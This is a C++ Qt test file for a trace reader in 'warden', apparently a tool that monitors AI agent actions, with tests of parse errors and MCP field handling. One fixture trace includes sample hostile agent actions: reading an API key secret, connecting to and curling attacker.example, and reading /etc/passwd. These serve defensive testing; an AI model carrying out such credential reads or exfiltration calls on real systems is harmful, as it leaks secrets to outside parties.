#include "core/trace/TraceReader.h"
#include "support/TestSupport.h"

using namespace warden;
using warden::test::bytes;

class TestTraceReader : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void readsTheDesignExample()
    {
        const char *text =
            R"({"seq": 1, "time": "2026-11-24T10:00:00Z", "kind": "tool_call", "tool": "load_csv", "params": {"path": "/data/sales.csv"}, "justification": "user asked"})"
            "\n\n"
            R"({"seq": 2, "kind": "secret_read", "name": "OPENAI_API_KEY"})"
            "\r\n"
            R"({"seq": 3, "kind": "egress", "host": "attacker.example", "port": 443, "method": "CONNECT"})"
            "\n"
            R"({"seq": 4, "kind": "process", "argv": ["curl", "-s", "http://attacker.example"]})"
            "\n"
            R"({"seq": 5, "kind": "file", "op": "read", "path": "/etc/passwd"})";
        auto actions = TraceReader::parse(text, "t.jsonl");
        QVERIFY2(actions.has_value(), actions ? "" : actions.error().toString().c_str());
        QCOMPARE(actions->size(), std::size_t(5));
        QCOMPARE(actions->at(0).kind, ActionKind::ToolCall);
        QVERIFY(actions->at(0).timeMs.has_value());
        QCOMPARE(bytes(actions->at(2).host), QByteArray("attacker.example"));
        QCOMPARE(actions->at(2).port, 443);
        QCOMPARE(actions->at(3).argv.size(), std::size_t(3));
        // Round trip through the export form.
        auto again = Action::fromJson(actions->at(0).toJson());
        QVERIFY(again.has_value());
        QCOMPARE(again->toJson(), actions->at(0).toJson());
    }

    void errorsNameTheLine_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<int>("line");
        QTest::addColumn<QByteArray>("message");
        const QByteArray ok = R"({"seq": 1, "kind": "secret_read", "name": "A"})";
        QTest::newRow("bad json") << ok + "\n{\"seq\": 2, \"kind\": " << 2 << QByteArray("syntax error");
        QTest::newRow("unknown kind") << ok + "\n\n{\"seq\": 2, \"kind\": \"teleport\"}" << 3
                                      << QByteArray("unknown kind");
        QTest::newRow("missing seq") << ok + "\n{\"kind\": \"secret_read\", \"name\": \"B\"}" << 2
                                     << QByteArray("missing required field");
        QTest::newRow("seq not increasing") << ok + "\n" + ok << 2 << QByteArray("does not follow");
        QTest::newRow("field of other kind")
            << QByteArray(R"({"seq": 1, "kind": "secret_read", "name": "A", "host": "x"})") << 1
            << QByteArray("does not belong");
        QTest::newRow("bad time") << QByteArray(
                                         R"({"seq": 1, "kind": "secret_read", "name": "A", "time": "yesterday"})")
                                  << 1 << QByteArray("RFC 3339");
        QTest::newRow("bad port") << QByteArray(R"({"seq": 1, "kind": "egress", "host": "a", "port": 70000})") << 1
                                  << QByteArray("1 to 65535");
        QTest::newRow("egress without target") << QByteArray(R"({"seq": 1, "kind": "egress", "port": 443})") << 1
                                               << QByteArray("needs \"host\" or \"url\"");
        QTest::newRow("empty argv") << QByteArray(R"({"seq": 1, "kind": "process", "argv": []})") << 1
                                    << QByteArray("must name a program");
        QTest::newRow("bad op") << QByteArray(R"({"seq": 1, "kind": "file", "op": "chmod", "path": "/x"})") << 1
                                << QByteArray("unknown file op");
        QTest::newRow("params not object")
            << QByteArray(R"({"seq": 1, "kind": "tool_call", "tool": "t", "params": [1]})") << 1
            << QByteArray("must be an object");
        QTest::newRow("negative seq") << QByteArray(R"({"seq": -4, "kind": "secret_read", "name": "A"})") << 1
                                      << QByteArray("positive integer");
        QTest::newRow("not an object") << QByteArray("[1,2,3]") << 1 << QByteArray("must be a JSON object");
        QTest::newRow("invalid utf8") << QByteArray("{\"seq\": 1, \"kind\": \"secret_read\", \"name\": \"\xff\"}") << 1
                                      << QByteArray("");
    }
    void errorsNameTheLine()
    {
        QFETCH(QByteArray, text);
        QFETCH(int, line);
        QFETCH(QByteArray, message);
        auto r = TraceReader::parse(text.toStdString(), "trace.jsonl");
        QVERIFY(!r.has_value());
        QCOMPARE(r.error().line, line);
        QCOMPARE(bytes(r.error().file), QByteArray("trace.jsonl"));
        QVERIFY2(bytes(r.error().message).contains(message), r.error().toString().c_str());
        QVERIFY(bytes(r.error().toString())
                    .startsWith(QByteArray(QByteArray("trace.jsonl:") + QByteArray::number(line) + QByteArray(": "))));
    }

    // An MCP client picks its JSON-RPC ids and the server its protocol
    // version: whatever they send, what the record keeps reads back (a
    // 256-byte cut through a multi-byte character once made a stored
    // action unreadable, and its whole run with it).
    void mcpNamesAlwaysReadBack()
    {
        std::string hostile;
        for (int i = 0; i < 300; ++i)
            hostile += "\xc3\xa9"; // é, cut anywhere
        hostile += "\x1b[2J\xff";
        for (const nlohmann::json &id : {nlohmann::json(hostile), nlohmann::json(7), nlohmann::json("a\"b")}) {
            warden::Action a;
            a.seq = 1;
            a.tool = "files.read_file";
            a.mcp = warden::Action::McpCallInfo::of("tools/call", id, "files/1", hostile);
            QVERIFY(a.mcp.requestId.size() <= warden::Action::McpCallInfo::kMaxField);
            QVERIFY(a.mcp.protocol.size() <= warden::Action::McpCallInfo::kMaxField);
            for (char c : a.mcp.requestId + a.mcp.protocol)
                QVERIFY(c >= 0x20 && c <= 0x7e);
            const std::string stored = a.toJson().dump(-1, ' ', false, nlohmann::json::error_handler_t::replace);
            auto back = warden::Action::fromJson(nlohmann::json::parse(stored));
            QVERIFY2(back.has_value(), back ? "" : back.error().toString().c_str());
            QCOMPARE(warden::test::bytes(back->mcp.requestId), warden::test::bytes(a.mcp.requestId));
        }
        // A record that says more than 256 bytes is refused, naming the field.
        const nlohmann::json record = {{"seq", 1},
                                       {"kind", "tool_call"},
                                       {"tool", "t"},
                                       {"mcp", {{"method", "tools/call"}, {"request_id", std::string(257, 'x')}}}};
        auto tooLong = warden::Action::fromJson(record);
        QVERIFY(!tooLong);
        QCOMPARE(warden::test::bytes(tooLong.error().field), QByteArray("/mcp/request_id"));
    }

    void readsTheExampleTraces()
    {
        for (const char *name : {"code-bot-injected.jsonl", "code-bot-benign.jsonl", "kubesleuth-implant.jsonl"}) {
            auto r = TraceReader::load(warden::test::sourceDir() + "/resources/traces/" + name);
            QVERIFY2(r.has_value(), r ? "" : r.error().toString().c_str());
            QVERIFY(!r->empty());
        }
    }
};

QTEST_GUILESS_MAIN(TestTraceReader)
#include "tst_tracereader.moc"
